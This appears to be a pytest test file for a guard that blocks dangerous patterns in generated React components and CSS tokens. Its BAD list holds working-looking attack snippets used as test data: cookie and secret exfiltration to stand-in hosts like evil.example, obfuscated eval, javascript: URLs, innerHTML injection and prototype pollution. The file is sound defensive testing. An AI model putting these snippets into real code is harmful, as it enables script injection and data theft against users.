"""What generated code must not do, and what only looks like it."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from componentforge.domain.base import Blob
from componentforge.domain.component import Asset, Draft
from componentforge.security.code_guard import blocking, check_code, check_draft
from componentforge.security.syntax import Names, parse, unescaped, walk

OWN = {"./Card"}
CLEAN = "import { useState } from 'react';\nexport function Card() { return <p>Card</p>; }\n"
BAD = {
    'fetch': "const r = fetch('/x');",
    'fetch alias': "const f = window['fetch']; f('/x')",
    'fetch concat': "const w = window as any; w['fe'+'tch']('/x')",
    'globalThis': "globalThis.fetch('/x')",
    'fetch template': "(self as any)[`fetch`]('/x')",
    'destruct': "const { fetch: g } = window; g('/x')",
    'xhr': 'new XMLHttpRequest()',
    'ws': "new WebSocket('wss://x')",
    'beacon': "navigator.sendBeacon('/x', 'a')",
    'image': "new Image().src = 'https://evil/x?' + document.cookie",
    'image2': "const i = document.createElement('img'); i.src='https://e.example'",
    'eval': "eval('1')",
    'indirect eval': "(0, eval)('1')",
    'Function': "new Function('return 1')()",
    'ctor': "[].constructor.constructor('alert(1)')()",
    'ctor2': "(()=>{})['constructor']('x')()",
    'setTimeout str': "setTimeout('alert(1)', 0)",
    'import()': "const m = await import('https://x/y.js');",
    'import remote': "import x from 'https://esm.sh/x';",
    'import node': "import fs from 'fs';",
    'import type ok?': "import { exec } from 'child_process';",
    'require': "require('fs')",
    'export from': "export * from 'lodash';",
    'innerHTML': 'ref.current.innerHTML = x',
    'outerHTML': 'el.outerHTML = x',
    'dsi': 'const a = <div dangerouslySetInnerHTML={{__html: x}} />',
    'dsi spread': 'const p = {dangerouslySetInnerHTML: {__html: x}}; const a = <div {...p} />',
    'dsi spread str': "const p = {'dangerouslySetInnerHTML': {__html: x}};",
    'doc.write': "document.write('<b>')",
    'jsurl': "const a = <a href='javascript:alert(1)'>x</a>",
    'jsurl2': "const a = <a href={'java' + 'script:alert(1)'}>x</a>",
    'jsurl tab': "const a = <a href={'java\\tscript:alert(1)'}>x</a>",
    'jsurl ent': "const a = <a href='&#106;avascript:alert(1)'>x</a>",
    'jsurl const': "const u = 'javascript:alert(1)'; const a = <a href={u}>x</a>",
    'jsurl up': "const a = <a href='JaVaScRiPt:alert(1)'>x</a>",
    'data html': "const a = <a href='data:text/html,<script>'>x</a>",
    'iframe': "const a = <iframe src='x' />",
    'script': 'const a = <script>{x}</script>',
    'object': "const a = <object data='x' />",
    'embed': "const a = <embed src='x' />",
    'cE script': "React.createElement('script', {src:'x'})",
    'cE var': "const T = 'script'; const a = <T src='x' />",
    'http img': "const a = <img src='https://t.example/p.gif' alt='' />",
    'http img expr': "const a = <img src={`https://t.example/${x}`} alt='' />",
    'protocol rel': "const a = <img src='//t.example/p.gif' alt='' />",
    'form action': "const a = <form action='https://evil.example'></form>",
    'formAction': "const a = <button formAction='https://evil.example'>x</button>",
    'link': "const a = <link rel='stylesheet' href='https://x' />",
    'meta': "const a = <meta httpEquiv='refresh' content='0;url=https://x' />",
    'localStorage': "localStorage.setItem('token', t)",
    'session': 'window.sessionStorage.token',
    'cookie': 'const c = document.cookie',
    'cookie2': 'const d = document; d.cookie',
    'open': "window.open('https://x')",
    'open2': "open('https://x')",
    'location': "window.location = 'https://x'",
    'loc2': "location.href = 'https://x'",
    'loc3': "document.location.assign('x')",
    'loc4': "top.location.replace('x')",
    'postMessage': "window.postMessage('x', '*')",
    'parent': "parent.postMessage('x','*')",
    'opener': "window.opener.location='x'",
    'blank': "const a = <a href='/x' target='_blank'>x</a>",
    'handler text': "const a = <div onclick='alert(1)' />",
    'srcdoc': "const a = <iframe srcDoc='<script>' />",
    'bg url css': 'const a = <div className="bg-[url(\'https://x/y.png\')]" />',
    'style url': "const a = <div style={{backgroundImage: 'url(https://x)'}} />",
    'proto': '({}).__proto__.x = 1',
    'proto2': 'Object.prototype.x = 1',
    'setProto': 'Object.setPrototypeOf(a, b)',
    'defineProperty': "Object.defineProperty(window, 'x', {})",
    'Reflect': "Reflect.get(window, 'fetch')",
    'worker': "new Worker('x.js')",
    'sw': "navigator.serviceWorker.register('x')",
    'wasm': 'WebAssembly.instantiate(b)',
    'process': 'process.env.SECRET',
    'while true': 'while (true) {}',
    'for ever': 'for (;;) {}',
    'debugger': 'debugger;',
    'secret': "const k = 'sk-abcdefghijklmnopqrstuvwxyz123456'",
    'insertAdj': "el.insertAdjacentHTML('beforeend', x)",
    'range': 'document.createRange().createContextualFragment(x)',
    'domparser': "new DOMParser().parseFromString(x,'text/html')",
    'clipboard': 'navigator.clipboard.readText()',
    'geo': 'navigator.geolocation.getCurrentPosition(f)',
    'atob eval': "window[atob('ZXZhbA==')]('1')",
    'fromCharCode': "window[String.fromCharCode(101,118,97,108)]('1')",
    'import.meta': 'import.meta.env.SECRET',
    'EventSource': "new EventSource('/x')",
    'css import': "const s = '@import url(https://x)'",
    'alias globals': "const g = Function.prototype.constructor; g('x')()",
    'jsx ns': "const a = <svg><use xlinkHref='https://x/y.svg#a' /></svg>",
    'setAttribute': "el.setAttribute('onclick', 'x')",
    'setAttr href': "el.setAttribute('href', 'javascript:x')",
    'svg foreign': 'const a = <svg><foreignObject><b/></foreignObject></svg>',
    'param shadows': "function a(fetch: string) { return fetch }\nfetch('/x')",
    'unicode esc': "\\u0066etch('/x')",
    'optional': "window?.fetch?.('/x')",
    'as cast': "(window as Window).fetch('/x')",
    'comma': "(1, window).fetch('x')",
    'tpl tag': 'eval`1`',
    'new.target': "new (Function as any)('x')",
    'self': "self.fetch('x')",
    'frames': 'frames[0]',
    'async gen': "(async function(){}).constructor('x')()",
    'href expr prop': "const a = <a href={'https://evil.example/?q=' + secret}>x</a>",
    'video poster': "const a = <video poster='https://x' />",
    'source srcset': "const a = <source srcSet='https://x 1x' />",
    'base': "const a = <base href='https://x' />",
    'audio': "const a = <audio src='https://x' />",
    'ping': "const a = <a href='/x' ping='https://t.example'>x</a>",
    'ref html': "ref.current!['inner' + 'HTML'] = x",
    'body src': "document.body.querySelector('img').src = 'https://e.example/?c=' + x",
    'doc body html': 'document.body.innerHTML = x',
    'storage token': "localStorage.setItem('auth_token', t)",
    'storage any key': 'localStorage.setItem(k, v)',
    'loc assign': "window.location.pathname = '/x'",
    'loc hash set': 'location.hash = x',
    'clip read': 'navigator.clipboard.readText()',
    'env': 'const k = process.env.API_KEY',
    'doc defaultView': "document.body.ownerDocument.defaultView.fetch('/x')",
    'redos': 'const r = /^(a+)+$/;',
    'cE dsi': "React.createElement('div', {dangerouslySetInnerHTML: {__html: x}})",
}  # fmt: skip
GOOD = {
    'prop fetchLabel': 'function A({ fetchLabel }: { fetchLabel: string }) { return <b>{fetchLabel}</b> }',
    'text eval': "const a = <p>eval(1) and fetch('/x') document.cookie</p>",
    'string eval': "const t = 'eval(1); window.open()'",
    'open prop': "function D({ open, onClose }: P) { return open ? <div role='dialog' onClick={onClose} /> : null }",
    'location prop': 'function A({ location }: { location: string }) { return <p>{location}</p> }',
    'obj.location': 'const a = <p>{item.location}</p>',
    'history': 'const { history } = props; history.map((h) => h.id)',
    'state open': 'const [open, setOpen] = useState(false); const x = open ? 1 : 2',
    'parent param': 'items.map((parent) => parent.id)',
    'name top': 'const top = 3; const b = top + 1',
    'title self': 'const self = { a: 1 }; self.a',
    'timeout fn': 'setTimeout(() => setOpen(false), 100)',
    'esc key': "useEffect(() => { const f = (e: KeyboardEvent) => { if (e.key === 'Escape') close() }; document.addEventListener('keydown', f); return () => document.removeEventListener('keydown', f) }, [])",
    'rel': "const a = <a href='/x' target='_blank' rel='noopener noreferrer'>x</a>",
    'mailto': "const a = <a href='mailto:a@b.c'>x</a>",
    'hash': "const a = <a href='#'>x</a>",
    'svg xmlns': "const a = <svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 1 1'><path d='M0 0' /></svg>",
    'asset img': "const a = <img src={photo} alt='' />",
    'data img': "const a = <img src='data:image/png;base64,AAAA' alt='' />",
    'key script': "const a = <li key='script'>script</li>",
    'interface': 'interface P { fetch: () => void; eval?: string; constructor?: string }',
    'member fetch': 'props.fetch()',
    'prop name on obj': "const o = { fetch: 1, open: true, location: 'x' }",
    'comment': '// eval(window.fetch) document.cookie\nconst a = 1',
    'label any': "const any = 'any'; const x: string = any",
    'innerText': 'el.innerText',
    'focus': 'ref.current?.focus()',
    'type import': "import type { ReactNode } from 'react';",
    'react': "import React, { useState } from 'react';",
    'own': "import { Card } from './Card';",
    'destruct alias': 'function A({ open: isOpen = false }: P) { return <i hidden={!isOpen} /> }',
    'prompt prop': 'function A({ prompt, alert }: P) { return <b>{prompt}{alert}</b> }',
    'Alert comp': "function Alert() { return <div role='alert' /> }",
    'enum': "type V = 'fetch' | 'eval' | 'open'",
    'confirm handler': 'const confirm = () => setDone(true); const a = <button onClick={confirm}>ok</button>',
    'regex': 'const r = /^[a-z]+@[a-z]+$/',
    'style text': 'const a = <p>style</p>',
    'object el': 'const object = 1',
    'process status': "const process = 'done'; const a = <b>{process}</b>",
    'arrow param': 'const f = open => !open',
    'arrow param2': 'const f = (name: string, top: number) => top',
    'catch': 'try { x() } catch (history) { y(history) }',
    'href expr': 'const a = <a href={item.href}>x</a>',
    'prototype text': 'const a = <b>prototype</b>',
    'constructor': 'class A { constructor() {} }',
    'navigator comp': "function Nav() { return <nav aria-label='Main' /> }",
    'jsx member': 'const a = <Card.Title>x</Card.Title>',
    'parent for': 'for (const parent of items) { use(parent) }',
    'scroll lock': "document.body.style.overflow = 'hidden'",
    'title': 'document.title = name',
    'copy': 'navigator.clipboard.writeText(code)',
    'active link': 'const active = window.location.pathname === href',
    'env mode': "if (process.env.NODE_ENV !== 'production') warn()",
    'observer': 'new window.ResizeObserver(f)',
    'query': "document.querySelector('dialog')?.focus()",
    'computed key': 'const a = sizes[size]',
    'computed tpl': 'const a = styles[`${variant}`]',
    'computed concat idx': 'const a = list[i + 1]',
    'useId': "const id = useId(); const a = <label htmlFor={id + '-x'}>x</label>",
    'concat index': "const a = classes['is-' + variant]",
}  # fmt: skip
RULES = {
    "fetch('/x')": "network",
    "new Worker('x')": "worker",
    "eval('1')": "code-from-text",
    "setTimeout('x()', 1)": "code-from-text",
    "localStorage.x": "storage",
    "document.cookie": "document",
    "location.href": "navigation",
    "import fs from 'fs'": "import",
    "alert('x')": "dialog",
    "Reflect.ownKeys(a)": "reflection",
    "a.innerHTML = b": "html-from-text",
    "a.__proto__": "prototype",
    "const a = <iframe />": "element",
    "const a = <a href='javascript:x()' />": "script-url",
    "const a = <img src='https://a.b/c' />": "remote-url",
    "const a = <a href='/' target='_blank' />": "target-blank",
    "const a = <b onClick='x()' />": "handler-text",
    'const a = <b className="bg-[url(https://a.b/c)]" />': "css-url",
    "const a = /(x+)+y/": "redos",
    "while (true) {}": "endless-loop",
    "a['__pro' + b]": "computed-name",
    "const k = 'AKIAABCDEFGHIJKLMNOP'": "secret",
    "a.setAttribute(b, c)": "set-attribute",
    "debugger": "statement",
    "const = 3": "syntax",
}
UNCLEAN = {
    "const a = <b style={{ color: 'red' }} />": "inline-style",
    "const a: any = 1": "any",
    "// @ts-ignore\nconst a = 1": "ts-ignore",
    "alert('x')": "dialog",
    "localStorage.setItem('theme', 'dark')": "storage",
}


def found(code: str):
    return check_code(code, "Card.tsx", OWN)


@pytest.mark.parametrize("code", BAD.values(), ids=BAD.keys())
def test_dangerous_code_is_blocked(code):
    assert blocking(found(code))


@pytest.mark.parametrize("code", GOOD.values(), ids=GOOD.keys())
def test_what_only_looks_like_it_is_not_even_remarked(code):
    assert found(code) == []


@pytest.mark.parametrize(("code", "rule"), RULES.items())
def test_a_finding_names_its_rule(code, rule):
    assert rule in [f.rule for f in found(code)]
    assert all(f.message and f.source == "safety" for f in found(code))


@pytest.mark.parametrize(("code", "rule"), UNCLEAN.items())
def test_what_is_only_unclean_is_remarked_but_not_blocked(code, rule):
    assert [f.rule for f in found(code)] == [rule]
    assert not blocking(found(code))


def test_a_finding_knows_its_file_and_line():
    (finding,) = found("\n\nconst a = 1;\nfetch('/x');\n")
    assert (finding.file, finding.line) == ("Card.tsx", 4)


@pytest.mark.parametrize(
    "code",
    [
        "while (true) { if (a) break; }",
        "for (;;) { return; }",
        "for (let i = 0; i < 3; i++) { a(i) }",
        "do { a() } while (b)",
    ],
)
def test_a_loop_that_ends_is_fine(code):
    assert found(code) == []


def draft(**changes) -> Draft:
    known = {"name": "Card", "tsx": CLEAN, "stories": "import { Card } from './Card';\n",
             "tokens_css": "@theme {\n  --color-a: #ffffff;\n}\n"}  # fmt: skip
    return Draft.model_validate({**known, **changes})


def test_a_clean_draft_has_no_findings():
    assert check_draft(draft()) == []


def test_every_file_of_a_draft_is_looked_at():
    for field, file in (("tsx", "Card.tsx"), ("stories", "Card.stories.tsx")):
        (finding,) = check_draft(draft(**{field: "fetch('/x')"}))
        assert finding.file == file


@pytest.mark.parametrize(
    "line",
    [
        "@import url(x);",
        "a{background:URL(//e.example)}",
        "@plugin 'x';",
        "width: expression(alert(1));",
    ],
)
def test_tokens_may_not_load_anything(line):
    (finding,) = check_draft(draft(tokens_css=f"@theme {{\n{line}\n}}"))
    assert (finding.rule, finding.line) == ("css-url", 2)
    assert blocking([finding])


def test_the_users_library_and_assets_may_be_imported():
    code = "import { Tag } from '@acme/ui';\nimport photo from './assets/photo.png';\n"
    blob = Blob(blob_sha256="0" * 64, media_type="image/png", size=1)
    with_asset = draft(stories=code, assets=(Asset(file="photo.png", image=blob),))
    assert check_draft(with_asset, ("@acme/ui",)) == []
    assert [f.rule for f in check_draft(with_asset)] == ["import"]
    assert [f.rule for f in check_draft(draft(stories=code), ("@acme/ui",))] == ["import"]


@given(st.text(max_size=200))
@settings(max_examples=150, deadline=None)
def test_no_text_breaks_the_guard(code):
    for finding in found(code):
        assert finding.line >= 1


@given(st.sampled_from(sorted(BAD.values())), st.sampled_from(sorted(GOOD.values())))
@settings(max_examples=80, deadline=None)
def test_harmless_code_around_does_not_hide_a_danger(bad, good):
    assert blocking(found(f"{{ {good} }}\n{bad}\n"))


@pytest.mark.parametrize("pieces", [40, 3000])
def test_nesting_does_not_hide_a_danger(pieces):
    name = "'eval'" + " + ''" * pieces
    assert blocking(found(f"window[{name}]('1')"))
    assert blocking(found(f"const u = {name.replace('eval', 'javascript:x()')}; <a href={{u}} />"))
    assert blocking(found("const a = " + "(" * 3000 + "1" + ")" * 3000))


def test_code_as_deep_as_people_write_it_is_looked_through():
    assert found("const a = <div>" + "<div>" * 60 + "</div>" * 60 + "</div>") == []


@pytest.mark.parametrize(
    ("source", "text"),
    [(r"\u0065val", "eval"), (r"\x65", "e"), (r"\u{65}", "e"), (r"a\tb", "a\tb"),
     (r"\'", "'"), ("plain", "plain"), (r"\u{ffffff}", "")],
)  # fmt: skip
def test_escapes_stand_for_characters(source, text):
    assert unescaped(source) == text


@pytest.mark.parametrize(
    ("expression", "known"),
    [
        ("'a' + 'b'", ("ab", True)),
        ("'a' + x", ("a", False)),
        ("x + 'a'", ("", False)),
        ("`a${'b'}c`", ("abc", True)),
        ("`a${x}c`", ("a", False)),
        ("('a' as string)", ("a", True)),
        ("named", ("whole", True)),
        ("1", ("", False)),
    ],
)
def test_constant_text_is_known_without_running(expression, known):
    root = parse(f"const named = 'whole'; use({expression})").root_node
    call = next(n for n in walk(root) if n.type == "arguments")
    assert Names(root).constant(call.named_children[0]) == known
